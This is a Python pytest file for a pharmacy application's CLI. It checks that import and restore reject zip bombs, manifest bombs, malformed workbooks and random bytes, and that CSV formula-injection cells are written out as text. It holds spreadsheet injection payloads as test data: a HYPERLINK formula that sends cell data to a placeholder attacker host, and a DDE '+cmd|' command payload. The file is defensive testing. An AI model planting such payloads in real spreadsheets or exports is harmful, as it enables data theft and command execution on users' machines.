"""Hostile and damaged files at the command line: ``pharmdesk import``, ``restore`` and
``restore --check`` answer a VALIDATION_ERROR on the file (exit 1) that says what is wrong
and what to do, never "internal error" (exit 3), and change nothing."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from pharmdesk.controllers.session import sign_in
from pharmdesk.paths import DatabaseFiles
from tests.cli.conftest import Run, digests
from tests.conftest import ADMIN, ADMIN_PASSWORD, TEST_KDF
from tests.importing.files import write_csv
from tests.reliability.hostile import (
    broken_xml_workbook,
    manifest_bomb_backup,
    sheet_bomb_workbook,
)


def names(files: DatabaseFiles) -> list[str]:
    desk = sign_in(files, ADMIN, ADMIN_PASSWORD, sleep=lambda _s: None, kdf=TEST_KDF)
    try:
        return [c["name"] for c in desk.call("fetchCustomers", {"limit": 100})["customers"]]
    finally:
        desk.close()


def refused(result, *words: str) -> None:  # type: ignore[no-untyped-def]
    assert result.code == 1, result.out
    error = result.error
    assert error["code"] == "VALIDATION_ERROR" and error["field"] == "file"
    for word in words:
        assert word in error["message"]
    assert "internal error" not in result.out + result.err


@pytest.mark.parametrize(
    ("build", "words"),
    [
        (broken_xml_workbook, ("cannot be opened as an Excel workbook", "save it again as .xlsx")),
        (sheet_bomb_workbook, ("expands",)),
        (lambda p: (p.write_bytes(bytes(range(256)) * 16), p)[1], ("not a complete zip",)),
    ],
    ids=["broken-xml", "zip-bomb", "random-bytes"],
)
def test_import_of_a_bad_workbook(
    run: Run,
    db_arg: str,
    db_files: DatabaseFiles,
    tmp_path: Path,
    build,
    words,  # type: ignore[no-untyped-def]
) -> None:
    path = build(tmp_path / "customers.xlsx")
    report = tmp_path / "report.csv"
    result = run("import", str(path), db_arg, "--yes", "--report", str(report))
    refused(result, *words)
    assert names(db_files) == [] and not report.exists()


def test_the_dry_run_report_writes_formulas_as_text(
    run: Run, db_arg: str, db_files: DatabaseFiles, tmp_path: Path
) -> None:
    """The finding: a hostile customer file put =HYPERLINK(...) and +cmd|... into the
    report's Name and Phone cells, where a spreadsheet runs them."""
    path = write_csv(
        tmp_path / "hostile.csv",
        [
            ["Name", "Phone"],
            ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "0801"],
            ["Ada Obi", "+cmd|' /C calc'!A0"],
            ["@SUM(1+1)", "-2+3"],
        ],
    )
    report = tmp_path / "report.csv"
    result = run("import", str(path), db_arg, "--dry-run", "--report", str(report))
    assert result.code == 0, result.out
    with report.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    cells = [cell for row in rows for cell in row]
    assert cells, rows
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert names(db_files) == []


@pytest.mark.parametrize("check", [True, False], ids=["check", "restore"])
def test_restore_of_a_manifest_bomb(run: Run, tmp_path: Path, check: bool) -> None:
    bomb = manifest_bomb_backup(tmp_path / "holiday.pdbak", manifest_size=64 << 20)
    target = tmp_path / "restored" / "pharmdesk.db"
    argv = ["restore", str(bomb), *(["--check"] if check else [f"--db={target}"])]
    refused(run(*argv), "manifest.json", "Nothing was changed")
    assert not target.parent.exists()


@pytest.mark.parametrize("check", [True, False], ids=["check", "restore"])
def test_restore_of_random_bytes(run: Run, tmp_path: Path, check: bool) -> None:
    source = tmp_path / "backup.pdbak"
    source.write_bytes(bytes(range(256)) * 64)
    before = digests(tmp_path)
    target = tmp_path / "restored" / "pharmdesk.db"
    argv = ["restore", str(source), *(["--check"] if check else [f"--db={target}"])]
    refused(run(*argv), "is not a PharmDesk backup")
    assert digests(tmp_path) == before
